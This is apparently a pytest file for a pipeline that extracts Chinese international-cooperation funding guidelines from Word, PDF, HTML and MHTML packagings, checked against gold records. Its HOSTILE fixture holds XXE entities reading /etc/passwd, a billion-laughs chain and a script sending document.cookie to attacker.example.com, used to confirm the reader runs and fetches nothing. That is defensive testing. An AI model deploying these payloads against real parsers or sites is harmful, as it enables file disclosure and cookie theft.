"""Any packaging: a guideline inside the ministry's notice bundle, two guidelines in one file, a web
repost (.html, .mhtml), the same page printed from a browser, ruled label │ value tables, a scan with
someone else's OCR text layer.

Every packaging is built by tests/fixtures/packagings.py around the reference texts (2021-2, the
SYNTHETIC 2022-1, and a larger constructed edition joining both as groups 1.x and 2.x); the gold
facts are the guideline's own hand-written ones (joined the same way for the larger edition), so
every packaging must give exactly them.
"""

import json
import re
import socket
import urllib.request

import pytest
from click.testing import CliRunner
from conftest import EDITIONS, score

import build
import packagings as packaging
from pipeline.cli import app
from pipeline.errors import NotAGuideline, SeveralGuidelines
from pipeline.extract import extract_editions, extract_to_dir
from pipeline.reading import foreign
from pipeline.reading.html import page_to_paragraphs, parse_page, read_html
from pipeline.reading.textfixes import (DEFAULT_TEXT_FIXES, FixReport, combining_marks_composed, fix_text,
                                        horizontal_bar_to_dash, ligatures_to_letters, radicals_to_ideographs,
                                        supplement_equivalents)
from pipeline.text import is_radical

PERFECT = "precision=1.000 recall=1.000 f1=1.000"


def _reference(name):
    _, txt, gold = EDITIONS[name]
    return build.read_styled(txt.read_text(encoding="utf-8")), json.loads(gold.read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def guidelines():
    """name → (styled text, gold facts): both shared editions and the larger constructed one."""
    out = {"2021-2": _reference("2021-2"), "synthetic-2022-1": _reference("synthetic-2022-1")}
    out["large"] = packaging.large_edition(out["2021-2"], out["synthetic-2022-1"])
    return out


def _edition(out_dir):
    return json.loads((out_dir / "edition.json").read_text(encoding="utf-8"))


def _gate(out_dir):
    from pipeline.quality.validate import validate_edition

    return validate_edition(_edition(out_dir))


# --- the larger constructed edition ----------------------------------------------------------------

def test_the_large_edition_joins_both_golds(guidelines):
    styled, gold = guidelines["large"]
    assert len(gold["directions"]) == 16 and gold["edition"]["direction_count"] == 16
    assert [d["id"] for d in gold["directions"]][7:9] == ["1.8", "2.1"]
    assert gold["edition"]["budget_cny"] == 257_800_000 + 220_800_000
    assert gold["edition"]["project_count"] == {"min": 79 + 67, "max": 82 + 70}
    assert "设立16个指南方向" in "".join(t for _, t in styled) and "总概算4.786亿元" in "".join(t for _, t in styled)


# --- the notice bundle and two guidelines in one file (as Word files: fast) ---------------------------

NOTICE_AND_ANNEX_ADDRESSES = ("zhangming@most.cn", "lihua@cstec.org.cn", "wangwei@most.cn", "zhaoli@cstec.org.cn",
                              "qianqiang@cstec.org.cn", "program@istic.ac.cn", "58881360", "68598001")


@pytest.mark.parametrize("name", ["2021-2", "synthetic-2022-1", "large"])
def test_a_notice_bundle_gives_the_guideline_alone(tmp_path, guidelines, name):
    styled, gold = guidelines[name]
    docx = build.render_docx(packaging.notice_bundle(styled), tmp_path / "bundle.docx")
    stages, out = extract_to_dir(docx, tmp_path / "out")
    assert PERFECT in score(gold, out / "edition.json")
    text = json.dumps(_edition(out)["directions"], ensure_ascii=False)
    assert not [a for a in NOTICE_AND_ANNEX_ADDRESSES if a in text]
    warnings = stages.edition.warnings
    assert any(w.startswith("paragraphs 0–") and "the notice in front of the guideline (“科技部关于发布" in w for w in warnings)
    assert any("附件 2 annex “形式审查条件要求” is not part of the guideline: skipped" in w for w in warnings)
    assert any("附件 3 annex “专业机构联系方式”" in w for w in warnings)


def test_no_line_of_the_notice_or_an_annex_reaches_a_direction(tmp_path, guidelines):
    styled, _ = guidelines["2021-2"]
    notice, annexes = packaging.notice(styled), packaging.formal_review_annex(2) + packaging.contacts_annex(3)
    docx = build.render_docx(packaging.notice_bundle(styled), tmp_path / "bundle.docx")
    stages, out = extract_to_dir(docx, tmp_path / "out")
    guideline = stages.layout["extracted"]["paragraphs"]
    for node in stages.tree.walk():  # the outline was built from the guideline's paragraphs only
        if node.paragraph is not None:
            assert guideline[0] <= node.paragraph.index < guideline[1]
    directions = _edition(out)["directions"]
    values = json.dumps(directions, ensure_ascii=False)
    for _, line in notice + annexes:
        body = re.sub(r"^[（(]?\d+[.、)）]\s*", "", line)
        if len(body) >= 12:  # a line of its own (short ones such as 科技部 occur in the guideline too)
            assert body not in values, line
    malta = next(d for d in directions if d["id"] == "1.7")  # no annex rule joined the last directions
    assert malta["max_duration_years"] == 2 and len(malta["requirements"]) == 3
    assert len(next(d for d in directions if d["id"] == "1.8")["requirements"]) == 3


def test_two_guidelines_of_the_programme_are_each_extracted_and_never_mixed(tmp_path, guidelines):
    (a, gold_a), (b, gold_b) = guidelines["2021-2"], guidelines["synthetic-2022-1"]
    docx = build.render_docx(packaging.back_to_back(a, b), tmp_path / "two.docx")
    written = extract_editions(docx, default_root=tmp_path / "extracted")
    assert [(s.edition.edition.id, d.name) for s, d in written] == [("2021-2", "2021-2"), ("2022-1", "2022-1")]
    for (stages, out), gold in zip(written, (gold_a, gold_b)):
        assert PERFECT in score(gold, out / "edition.json")
        ids = [d["id"] for d in _edition(out)["directions"]]
        assert ids == sorted(set(ids)) and len(ids) == 8  # never 1.1–1.8 twice
    first, second = (s.edition.warnings for s, _ in written)
    assert any("another guideline of this programme" in w and "edition 2022-1; --edition 2022-1 chooses it" in w
               for w in first)
    assert any("edition 2021-2" in w for w in second)


def test_two_guidelines_and_one_out_dir_need_edition(tmp_path, guidelines):
    docx = build.render_docx(packaging.back_to_back(guidelines["2021-2"][0], guidelines["synthetic-2022-1"][0]),
                             tmp_path / "two.docx")
    with pytest.raises(SeveralGuidelines, match=r"holds 2 guidelines of this programme \(2021-2, 2022-1\); give --edition"):
        extract_editions(docx, tmp_path / "out")
    assert not (tmp_path / "out").exists()
    stages, out = extract_to_dir(docx, tmp_path / "out", edition_id="2022-1")
    assert stages.edition.edition.id == "2022-1" and len(stages.edition.directions) == 8
    with pytest.raises(SeveralGuidelines, match="none is 2023-1"):
        extract_to_dir(docx, tmp_path / "other", edition_id="2023-1")


def test_the_command_writes_one_line_per_guideline(tmp_path, guidelines, monkeypatch):
    docx = build.render_docx(packaging.back_to_back(guidelines["2021-2"][0], guidelines["synthetic-2022-1"][0]),
                             tmp_path / "two.docx")
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(app, ["extract", str(docx)])
    assert result.exit_code == 0, result.output
    lines = [ln for ln in result.stdout.splitlines()]
    assert lines == ["2021-2: 8 directions, 2.578 亿元 → extracted/2021-2/edition.json",
                     "2022-1: 8 directions, 2.208 亿元 → extracted/2022-1/edition.json"]
    refused = CliRunner().invoke(app, ["extract", str(docx), "--out", "one"])
    assert refused.exit_code == 25 and refused.stderr.count("\n") == 1 and "--edition" in refused.stderr


@pytest.mark.parametrize("order", ["ours first", "theirs first"])
def test_a_guideline_of_another_programme_is_named_and_left_out(tmp_path, guidelines, order):
    ours, gold = guidelines["2021-2"]
    theirs = packaging.other_programme_guideline()
    parts = (ours, theirs) if order == "ours first" else (theirs, ours)
    docx = build.render_docx(packaging.back_to_back(*parts), tmp_path / "mixed.docx")
    stages, out = extract_to_dir(docx, tmp_path / "out")
    assert PERFECT in score(gold, out / "edition.json")
    assert any("a guideline of another programme (战略性科技创新合作: ““战略性科技创新合作”重点专项" in w
               for w in stages.edition.warnings)
    assert not [d for d in _edition(out)["directions"] if d["partner"]["iso_code"] in ("HK", "MO", "TW")]


def test_a_file_of_another_programme_only_is_refused(tmp_path):
    docx = build.render_docx(packaging.other_programme_guideline(), tmp_path / "hmt.docx")
    with pytest.raises(NotAGuideline, match="another programme \\(战略性科技创新合作"):
        extract_editions(docx, tmp_path / "out")


# --- web pages ------------------------------------------------------------------------------------

FURNITURE = ("首页", "当前位置", "分享到", "上一篇", "版权所有", "kjc@example.edu.cn", "010-62751234", "您现在的位置",
             "主办单位", "kjt@example.gov.cn", "阅读原文", "微信扫一扫", "栏目导航", "点击数", "400-800-8888",
             "13800138000", "news@example.com", "someone@example.com", "热门文章", "document.write")


@pytest.fixture(scope="module")
def reposts(tmp_path_factory, guidelines):
    """(edition, template, form) → (stages, out dir): a repost written and extracted when first asked for."""
    root = tmp_path_factory.mktemp("reposts")
    cache = {}

    def get(name, template, form):
        if (name, template, form) not in cache:
            page = packaging.html_repost(guidelines[name][0], template)
            path = root / f"{name}-{template}.{form}"
            if form == "html":
                path.write_text(page, encoding="utf-8")
            else:
                path.write_bytes(packaging.mhtml(page))
            cache[name, template, form] = extract_to_dir(path, root / f"{name}-{template}-{form}")
        return cache[name, template, form]

    return get


FAST_REPOSTS = {("2021-2", t, "html") for t in packaging.TEMPLATES} | {("2021-2", "university", "mhtml"),
                                                                      ("synthetic-2022-1", "portal", "html")}
REPOSTS = [pytest.param(n, t, f, marks=() if (n, t, f) in FAST_REPOSTS else pytest.mark.slow, id=f"{n}-{t}-{f}")
           for n in ("2021-2", "synthetic-2022-1", "large") for t in packaging.TEMPLATES for f in ("html", "mhtml")]


@pytest.mark.parametrize("name, template, form", REPOSTS)
def test_a_repost_gives_the_guideline(reposts, guidelines, name, template, form):
    stages, out = reposts(name, template, form)
    assert PERFECT in score(guidelines[name][1], out / "edition.json")
    source = _edition(out)["edition"]["source"]
    assert source["format"] == form and source["pages"] is None
    if form == "mhtml":
        assert source["url"] == f"http://{packaging.REPOST_HOST}{packaging.REPOST_PATH}"
    kept = "\n".join(p.text for p in stages.paragraphs)
    assert not [f for f in FURNITURE if f in kept]  # the page's furniture was never read as text


@pytest.mark.parametrize("template", [pytest.param(t, marks=() if t == "university" else pytest.mark.slow)
                                      for t in packaging.TEMPLATES])
def test_a_repost_passes_the_gate(reposts, template):
    report = _gate(reposts("2021-2", template, "html")[1])
    assert report.status == "passed", [c.message for c in report.checks if c.status == "failed"]


def test_web_provenance_is_the_paragraph_and_its_element(reposts):
    stages, out = reposts("2021-2", "portal", "html")
    denmark = next(d for d in _edition(out)["directions"] if d["id"] == "1.5")
    (where,) = denmark["provenance"]["budget_cny"]["locations"]
    read = next(p for p in stages.layout["paragraphs"] if p["index"] == where["paragraph"])
    assert read["text"] == "共拟支持经费：2000 万元人民币。" and read["css_path"] == where["css_path"]
    assert where["css_path"].startswith("html > body > table > tbody > tr:nth-of-type(3) > td > table > tbody > tr")
    assert re.search(r"td\.TRS_Editor > p:nth-of-type\(\d+\)$", where["css_path"])
    # the requirements are an <ol>: the reader printed the numbers the browser generates (an interrupted
    # list goes on from its start attribute)
    assert [r["number"] for r in denmark["requirements"]] == [1, 2, 3, 4, 5, 6, 7]
    assert re.search(r"> ol:nth-of-type\(\d+\) > li:nth-of-type\(7\)$",
                     denmark["requirements"][6]["source"]["locations"][0]["css_path"])
    eu = next(d for d in _edition(out)["directions"] if d["id"] == "1.4")
    assert [r["number"] for r in eu["requirements"]] == [1, 2, 3, 4, 5, 6, 7]
    dropped = {d["reason"] for d in stages.layout["dropped"]}
    assert {'class="menu"', 'class="position"', 'class="bdsharebuttonbox"', 'class="foot"'} <= dropped


def test_a_web_table_row_reads_as_label_and_value(tmp_path, guidelines):
    styled, gold = guidelines["2021-2"]
    path = tmp_path / "tables.html"
    path.write_text(packaging.html_repost(packaging.with_ruled_tables(styled), "university"), encoding="utf-8")
    stages, out = extract_to_dir(path, tmp_path / "out")
    assert PERFECT in score(gold, out / "edition.json")
    israel = _edition(out)["directions"][0]
    assert israel["budget_text"] == "2000 万元"
    assert israel["provenance"]["budget_cny"]["locations"][0]["css_path"].endswith("> tbody > tr:nth-of-type(4)")


HOSTILE = """<!DOCTYPE html [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY remote SYSTEM "http://attacker.example.com/x.dtd">
  <!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<html><head><meta charset="utf-8"><title>repost</title>
<base href="http://attacker.example.com/">
<link rel="stylesheet" href="http://attacker.example.com/a.css"><link rel="import" href="http://attacker.example.com/i.html">
<style>@import url("http://attacker.example.com/b.css"); body { background: url(http://attacker.example.com/bg.png) }</style>
<script src="http://attacker.example.com/a.js"></script>
<script>fetch("http://attacker.example.com/steal?c=" + document.cookie); document.write("1.9 中国和某国合作项目");</script>
<meta http-equiv="refresh" content="0;url=http://attacker.example.com/">
</head><body onload="fetch('http://attacker.example.com/onload')">
<img src="http://attacker.example.com/t.gif" srcset="http://attacker.example.com/t2.gif 2x">
<iframe src="http://attacker.example.com/frame.html"></iframe><object data="http://attacker.example.com/o.swf"></object>
<video src="http://attacker.example.com/v.mp4" poster="http://attacker.example.com/p.jpg"></video>
<svg><image href="http://attacker.example.com/s.png"/><script>alert(1)</script></svg>
<div class="article">{article}<p>&xxe;&remote;&lol3;</p><noscript>1.9 中国和另一国合作项目</noscript>
<template><p>1.9 中国和模板国合作项目</p></template></div>
</body></html>"""


@pytest.fixture
def no_network(monkeypatch):
    """Every way a reader could reach the network raises, and is counted."""
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise OSError("network closed by the test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)
    return attempts


def test_hostile_html_is_never_executed_and_fetches_nothing(tmp_path, guidelines, no_network):
    styled, gold = guidelines["2021-2"]
    article = "\n".join(f"<p>{t}</p>" for _, t in styled)
    path = tmp_path / "hostile.html"
    path.write_text(HOSTILE.replace("{article}", article), encoding="utf-8")
    stages, out = extract_to_dir(path, tmp_path / "out")
    assert no_network == []
    assert PERFECT in score(gold, out / "edition.json")
    text = "\n".join(p.text for p in stages.paragraphs)
    assert "1.9" not in text and "alert" not in text and "fetch" not in text  # no script ran, no template shown
    assert "root:" not in text and "lollol" not in text  # no entity was expanded, no file read
    with pytest.raises(OSError):  # the guard itself works
        socket.create_connection(("attacker.example.com", 80))


def test_a_saved_page_reads_only_its_html_part(tmp_path, guidelines, no_network):
    page = packaging.html_repost(guidelines["2021-2"][0], "wechat")
    path = tmp_path / "saved.mhtml"
    path.write_bytes(packaging.mhtml(page))
    doc = read_html(path)
    assert no_network == [] and doc.format == "mhtml" and doc.url.endswith(packaging.REPOST_PATH)
    assert doc.paragraphs[0].text == "附件 1" and not any("base64" in p.text or "margin" in p.text for p in doc.paragraphs)


def test_the_reader_is_chosen_by_the_content(tmp_path, guidelines):
    page = packaging.html_repost(guidelines["2021-2"][0], "university")
    as_pdf = tmp_path / "repost.pdf"  # a web page saved under a PDF's name is still read as a web page
    as_pdf.write_text(page, encoding="utf-8")
    stages, out = extract_to_dir(as_pdf, tmp_path / "out")
    assert _edition(out)["edition"]["source"]["format"] == "html" and len(stages.edition.directions) == 8
    gbk = tmp_path / "gbk.htm"  # a GBK page that declares its charset
    gbk.write_bytes(page.replace('charset="utf-8"', 'charset="gbk"').encode("gb18030"))
    assert read_html(gbk).paragraphs[2].text == "“政府间国际科技创新合作”重点专项"


def test_list_numbers_are_printed_as_a_browser_prints_them():
    root = parse_page('<html><body><ol><li>甲</li><li>乙</li></ol><ol start="3" style="list-style-type:cjk-ideographic">'
                      '<li>丙</li></ol><ol type="a"><li>x</li></ol><ul><li>点</li></ul><p>一<br>二<br><br>三</p></body></html>')
    assert [p.text for p in page_to_paragraphs(root)[0]] == ["1. 甲", "2. 乙", "三、丙", "a. x", "点", "一", "二", "三"]


# --- the text fixes ---------------------------------------------------------------------------------

@pytest.mark.parametrize("printed, fixed", [
    ("拟⽀持项⽬数", "拟支持项目数"),  # Kangxi U+2F40 U+2F6C
    ("中华⼈⺠共和国", "中华人民共和国"),  # ⺠ U+2EA0 CJK radicals supplement
    ("粮⻝安全", "粮食安全"),  # ⻝ U+2EDD
    ("⾸⻚", "首页"),  # ⻚ U+2EDA
    ("⻢耳他", "马耳他"), ("⻓期", "长期"), ("⻔户", "门户"),
    ("⺟", "母"), ("⻳", "龟"),  # the two supplement radicals NFKC maps itself
    ("项目", "项目"), ("Martin", "Martin"),  # nothing to fix
])
def test_radicals_to_ideographs(printed, fixed):
    assert radicals_to_ideographs(printed) == fixed
    assert not any(is_radical(ch) for ch in fixed)


def test_every_radical_with_an_equivalent_maps_to_a_han_ideograph():
    import unicodedata

    for cp in range(0x2F00, 0x2FD6):
        assert unicodedata.category(radicals_to_ideographs(chr(cp))) == "Lo" and not is_radical(radicals_to_ideographs(chr(cp)))
    table = supplement_equivalents()  # 2E80 and 2E9A have none; ⺟ and ⻳ NFKC maps
    assert len(table) == 0x2EF3 - 0x2E80 + 1 - 4
    assert all(0x3400 <= ord(v) and not is_radical(v) for v in table.values())  # ⺕ → U+2B739 (Unicode 15)


@pytest.mark.parametrize("fix, printed, fixed", [
    (ligatures_to_letters, "jica.go.jp/china/oﬃce/others", "jica.go.jp/china/office/others"),
    (ligatures_to_letters, "ﬁnancial ﬂow ﬀ ﬄ ﬅ", "financial flow ff ffl st"),
    (horizontal_bar_to_dash, "2019―2022 年", "2019—2022 年"),
    (horizontal_bar_to_dash, "——", "——"),
])
def test_print_pipeline_fixes(fix, printed, fixed):
    assert fix(printed) == fixed


def test_combining_marks_join_their_letter():
    def glyph(text, x0, x1):
        return {"text": text, "x0": x0, "x1": x1, "top": 100.0, "bottom": 110.0, "size": 10.0}

    chars = [glyph("Z", 0, 6), glyph("\u0307", 6, 6), glyph("o", 6, 12), glyph("\u0301", 6.5, 6.5), glyph("ł", 12, 15)]
    kept, changed = combining_marks_composed(chars)
    assert "".join(c["text"] for c in kept) == "Żół" and len(changed) == 2


def test_the_fixes_are_recorded_and_switchable():
    report = FixReport("pages")
    assert fix_text("项⽬ oﬃce 2019―2022", 3, report) == "项目 office 2019—2022"
    assert [r["fix"] for r in report.to_list()] == ["radicals_to_ideographs", "ligatures_to_letters",
                                                    "horizontal_bar_to_dash"]
    assert report.warnings()[0] == ("text: 1 character(s) changed by the text fix radicals_to_ideographs (⽬→目 …) "
                                    "on page 3")
    assert fix_text("项⽬", 1, FixReport("pages"), fixes=()) == "项⽬"
    assert "combining_marks_composed" in DEFAULT_TEXT_FIXES


# --- someone else's OCR layer (the detection and the comparison; the engine runs in the slow tests) ------

def _glyphs(text: str, y: float = 100.0, x: float = 50.0, **extra):
    out = []
    for ch in text:
        w = 10.0 if ord(ch) > 0x2E80 else 5.0
        if ch != " ":
            out.append({"text": ch, "x0": x, "x1": x + w, "top": y, "bottom": y + 10, "size": 10.0, **extra})
        x += w
    return out


def test_where_the_readings_disagree_our_words_replace_theirs():
    hidden = _glyphs("联系人：Martin Kyvsgaurd，电话：+45 61905087；", hidden="invisible render mode")
    ours = _glyphs("联系人:Martin Kyvsgaard，电话：+45 61905081;", confidence=0.97)
    merged, disagreements = foreign.merge_readings(hidden, ours, 9)
    assert [(d.hidden, d.ocr) for d in disagreements] == [("Kyvsgaurd", "Kyvsgaard"), ("61905087", "61905081")]
    by_x = sorted(merged, key=lambda c: c["x0"])
    assert "".join(c["text"] for c in by_x) == "联系人：MartinKyvsgaard，电话：+4561905081；"  # widths folded: no dispute
    assert {c["reading"] for c in by_x[10:19]} == {"disagrees"}  # Kyvsgaard: ours
    assert {c["reading"] for c in by_x[:10]} == {"agrees"}  # 联系人：Martin: theirs, confirmed
    assert not [c for c in merged if "hidden" in c]


def test_a_mark_our_ocr_missed_stays_unchecked():
    merged, disagreements = foreign.merge_readings(_glyphs("环境、医疗", hidden="x"), _glyphs("环境医疗"), 1)
    assert "".join(c["text"] for c in sorted(merged, key=lambda c: c["x0"])) == "环境、医疗"
    assert [c["reading"] for c in merged if c["text"] == "、"] == ["foreign"]
    assert [(d.hidden, d.ocr) for d in disagreements] == [("、", "")]


def test_invisible_text_is_found(tmp_path):
    from reportlab.pdfgen.canvas import Canvas

    from pipeline.reading.pdf import read_pdf

    pdf = tmp_path / "ocr-layer.pdf"
    canvas = Canvas(str(pdf))
    font = build._register("STSong-Light")
    canvas.saveState()  # the render mode is graphics state: it ends with the state it was set in
    text = canvas.beginText(72, 700)
    text.setFont(font, 12)
    text.setTextRenderMode(3)
    text.textLine("拟支持项目数：不超过 10 个。共拟支持经费：2000 万元人民币。")
    canvas.drawText(text)
    canvas.restoreState()
    canvas.setFont(font, 12)
    canvas.drawString(72, 650, "可见的一行")
    canvas.save()
    doc = read_pdf(pdf)
    assert {c.get("hidden") for c in doc.pages[0].chars if c["text"] != " "} == {"invisible render mode", None}
    assert foreign.foreign_layer_pages(doc) == [1]
    marked = foreign.mark_unchecked(doc, [1])
    assert {c.get("reading") for c in marked.pages[0].chars if c["text"].strip()} == {"foreign", None}
    assert {c.get("reading") for c in doc.pages[0].chars} == {None}  # the document read is left as it was


# --- rendered packagings (slow) ----------------------------------------------------------------------

@pytest.mark.slow
@pytest.mark.parametrize("name", ["2021-2", "synthetic-2022-1", "large"])
def test_a_pdf_bundle_gives_the_guideline_and_passes_the_gate(tmp_path, guidelines, name):
    styled, gold = guidelines[name]
    pdf = build.render(packaging.notice_bundle(styled), tmp_path / "bundle.pdf")
    stages, out = extract_to_dir(pdf, tmp_path / "out")
    assert PERFECT in score(gold, out / "edition.json")
    assert _gate(out).status == "passed"
    values = json.dumps(_edition(out)["directions"], ensure_ascii=False)
    assert not [a for a in NOTICE_AND_ANNEX_ADDRESSES if a in values]
    assert any(w.startswith("pages 1–2: the notice") for w in stages.edition.warnings)


@pytest.mark.slow
def test_pdf_two_guidelines_and_another_programme(tmp_path, guidelines):
    (a, gold_a), (b, gold_b) = guidelines["2021-2"], guidelines["synthetic-2022-1"]
    pdf = build.render(packaging.back_to_back(a, packaging.other_programme_guideline(), b), tmp_path / "three.pdf")
    written = extract_editions(pdf, default_root=tmp_path / "extracted")
    assert [s.edition.edition.id for s, _ in written] == ["2021-2", "2022-1"]
    for (stages, out), gold in zip(written, (gold_a, gold_b)):
        assert PERFECT in score(gold, out / "edition.json")
        assert _gate(out).status == "passed"
        assert any("a guideline of another programme (战略性科技创新合作" in w for w in stages.edition.warnings)


@pytest.mark.slow
@pytest.mark.parametrize("name", ["2021-2", "synthetic-2022-1", "large"])
def test_ruled_tables_in_a_pdf_read_as_label_and_value(tmp_path, guidelines, name):
    styled, gold = guidelines[name]
    pdf = build.render(packaging.with_ruled_tables(styled), tmp_path / "tables.pdf")
    stages, out = extract_to_dir(pdf, tmp_path / "out")
    assert PERFECT in score(gold, out / "edition.json")
    assert _gate(out).status == "passed"
    # the budget's provenance is its cell: the page and the cell's box as the table finder gives it
    israel = _edition(out)["directions"][0]
    (where,) = israel["provenance"]["budget_cny"]["locations"]
    cells = [cell for t in stages.layout["tables"] if t["page"] == where["page"] for row in t["rows"] for cell in row]
    assert where["bbox"] in cells
    assert israel["project_count"]["text"] == f"不超过{gold['directions'][0]['project_count']['max']}个"


@pytest.fixture(scope="module")
def prints(tmp_path_factory, guidelines):
    """Reposts printed to PDF by headless Chromium (header and footer on), extracted: case → (stages, out)."""
    import shutil

    if not shutil.which("chromium"):
        pytest.skip("chromium is not installed")
    root = tmp_path_factory.mktemp("prints")
    names, names_gold = build.names_in_partner_languages(*guidelines["2021-2"])
    cases = {"2021-2 university": (guidelines["2021-2"][0], "university"),
             "synthetic-2022-1 portal": (guidelines["synthetic-2022-1"][0], "portal"),
             "large wechat": (guidelines["large"][0], "wechat"),
             "2021-2 news with tables": (packaging.with_ruled_tables(guidelines["2021-2"][0]), "news"),
             "names university": (names, "university")}
    out = {}
    for case, (styled, template) in cases.items():
        pdf = packaging.browser_print(packaging.html_repost(styled, template), root / f"{case}.pdf")
        out[case] = (pdf, *extract_to_dir(pdf, root / case))
    out["gold"] = {"2021-2 university": guidelines["2021-2"][1], "synthetic-2022-1 portal": guidelines["synthetic-2022-1"][1],
                   "large wechat": guidelines["large"][1], "2021-2 news with tables": guidelines["2021-2"][1],
                   "names university": names_gold}
    return out


PRINT_CASES = ["2021-2 university", "synthetic-2022-1 portal", "large wechat", "2021-2 news with tables",
               "names university"]


@pytest.mark.slow
@pytest.mark.parametrize("case", PRINT_CASES)
def test_a_browser_print_gives_the_same_records(prints, case):
    pdf, stages, out = prints[case]
    assert PERFECT in score(prints["gold"][case], out / "edition.json")
    report = _gate(out)
    assert report.status == "passed", [c.message for c in report.checks if c.status == "failed"]
    assert "ocr" not in stages.layout  # no page looked undecodable (ligatures, combining marks)
    printer = [d for d in stages.layout["dropped"] if d["reason"] in ("printer's header or footer",
                                                                      "running header or footer")]
    assert any(packaging.REPOST_HOST in d["text"] for d in printer)
    assert not [c for d in _edition(out)["directions"] for c in d["contacts"]
                if (c["email"] or "").endswith(("example.com", "example.edu.cn", "example.gov.cn"))]


@pytest.mark.slow
def test_a_browser_print_names_ideographs_by_radicals_and_they_are_mended(prints, tmp_path):
    pdf, stages, out = prints["2021-2 university"]
    fixes = {f["fix"]: f for f in stages.layout["text_fixes"]}
    assert fixes["radicals_to_ideographs"]["characters"] > 300  # Chromium + Noto CJK: ⽬ for 目, ⻚ for 页 …
    assert all(is_radical(a) and not is_radical(b) for a, b in fixes["radicals_to_ideographs"]["examples"].items())
    # without the fix the labels are not recognised, values hold radicals, and the gate says so
    others = tuple(f for f in DEFAULT_TEXT_FIXES if f != "radicals_to_ideographs")
    _, raw = extract_to_dir(pdf, tmp_path / "unfixed", text_fixes=others)
    report = _gate(raw)
    radical = next(c for c in report.checks if c.name == "values hold no Kangxi or CJK-radical code points")
    assert radical.status == "failed" and "U+2F6C" in radical.message


@pytest.mark.slow
def test_web_provenance_finds_its_element_in_a_browser(reposts, tmp_path):
    """The CSS path a value records selects, in Chromium's own DOM, the element whose text holds it."""
    import shutil
    import subprocess

    if not shutil.which("chromium"):
        pytest.skip("chromium is not installed")
    stages, out = reposts("2021-2", "portal", "html")
    wanted = [(loc["css_path"], d["budget_text"]) for d in _edition(out)["directions"]
              for loc in d["provenance"]["budget_cny"]["locations"]]
    page = (out.parent / "2021-2-portal.html").read_text(encoding="utf-8")
    script = ("<script>var found = [" + ",".join(json.dumps(q) for q, _ in wanted) + "].map(function(q){var e="
              "document.querySelector(q); return e ? e.textContent.replace(/\\s+/g,'') : 'NONE';});"
              "document.title = 'RESULT' + JSON.stringify(found);</script>")
    test_page = tmp_path / "probe.html"
    test_page.write_text(page.replace("</body>", script + "</body>"), encoding="utf-8")
    dom = subprocess.run(["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom",
                          "--host-resolver-rules=MAP * ~NOTFOUND", f"--user-data-dir={tmp_path}/profile",
                          test_page.as_uri()], capture_output=True, text=True, timeout=120).stdout
    found = json.loads(re.search(r"<title>RESULT(.*?)</title>", dom).group(1).replace("&quot;", '"'))
    assert len(found) == 8
    for text, (_, budget) in zip(found, wanted):
        assert re.sub(r"\s+", "", budget) in text


@pytest.fixture(scope="module")
def foreign_layers(tmp_path_factory, guidelines):
    """The 2021-2 text rendered, then 'scanned' with someone else's OCR layer: correct, and with seeded errors."""
    root = tmp_path_factory.mktemp("foreign")
    born = build.render(guidelines["2021-2"][0], root / "born.pdf")
    return {"correct": packaging.foreign_text_layer(born, root / "correct.pdf"),
            "seeded": packaging.foreign_text_layer(born, root / "seeded.pdf", SEEDED),
            "seeded under image": packaging.foreign_text_layer(born, root / "under.pdf", SEEDED, mode="under_image")}


SEEDED = (packaging.SeededError("Martin Kyvsgaard", "Martin Kyvsgaurd"),  # a letter of a name
          packaging.SeededError("nofar.hamrany", "nofar.hamramy"),  # a letter of an e-mail
          packaging.SeededError("61905081", "61905087"))  # a digit of a phone
WRONG = {"martin kyvsgaurd", "nofar.hamramy@innovationisrael.org", "+4561905087"}


def _without_engine(monkeypatch):
    from pipeline.errors import OcrUnavailable
    from pipeline.reading.ocr import engine

    def unavailable(*args, **kwargs):
        raise OcrUnavailable("the test has no engine")

    monkeypatch.setattr(engine, "load_engine", unavailable)  # what the default reader (EngineReader) loads


def _flagged(out) -> dict:
    """(direction, path) → rule of every needs-review warning validation gives."""
    return {(w.direction, w.path): w.rule for w in _gate(out).warnings}


@pytest.mark.slow
def test_without_ocr_a_foreign_layer_is_kept_and_every_value_flagged(foreign_layers, guidelines, tmp_path, monkeypatch):
    _without_engine(monkeypatch)
    stages, out = extract_to_dir(foreign_layers["correct"], tmp_path / "correct")
    assert PERFECT in score(guidelines["2021-2"][1], out / "edition.json")
    report = _gate(out)
    assert report.status == "passed"
    edition = _edition(out)
    flagged = _flagged(out)
    for d in edition["directions"]:
        for i, _ in enumerate(d["contacts"]):
            assert flagged.get((d["id"], f"contacts[{i}]")) == "foreign_text_layer"
        assert flagged.get((d["id"], "budget_cny")) == "foreign_text_layer"
        assert d["provenance"]["budget_cny"]["locations"][0]["ocr"] == {"source": "foreign text layer"}
    assert "not checked (no OCR engine" in stages.edition.warnings[0]


@pytest.mark.slow
@pytest.mark.parametrize("fixture", ["seeded", "seeded under image"])
def test_without_ocr_a_seeded_error_is_never_published_unflagged(foreign_layers, tmp_path, monkeypatch, fixture):
    _without_engine(monkeypatch)
    _, out = extract_to_dir(foreign_layers[fixture], tmp_path / "out")
    flagged = _flagged(out)
    found = set()
    for d in _edition(out)["directions"]:
        for i, c in enumerate(d["contacts"]):
            values = {(c["name"] or "").lower(), c["email"], c["phone"]}
            if values & WRONG:
                found |= values & WRONG
                assert flagged.get((d["id"], f"contacts[{i}]")) == "foreign_text_layer"
    assert found == WRONG  # the layer's errors are there, each one flagged for review


@pytest.mark.slow
def test_with_ocr_our_reading_wins_and_the_disagreements_are_recorded(foreign_layers, guidelines, tmp_path):
    pytest.importorskip("rapidocr_onnxruntime")
    stages, out = extract_to_dir(foreign_layers["seeded"], tmp_path / "out")
    assert PERFECT in score(guidelines["2021-2"][1], out / "edition.json")
    assert _gate(out).status == "passed"
